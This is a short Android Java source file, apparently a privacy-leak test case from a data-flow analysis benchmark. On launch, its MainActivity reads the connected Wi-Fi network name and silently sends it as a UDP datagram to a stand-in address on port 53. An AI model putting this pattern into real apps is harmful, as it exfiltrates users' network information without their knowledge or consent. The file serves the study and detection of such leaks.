package com.example.flows.wifi_datagram;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** The name of the wireless network is sent as a datagram. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        WifiManager wifi = (WifiManager) getSystemService(WIFI_SERVICE);
        String name = wifi.getConnectionInfo().getSSID();
        try {
            byte[] data = name.getBytes();
            DatagramPacket packet = new DatagramPacket(data, data.length, InetAddress.getByName("192.0.2.1"), 53);
            new DatagramSocket().send(packet);
        } catch (IOException e) {
            finish();
        }
    }

}
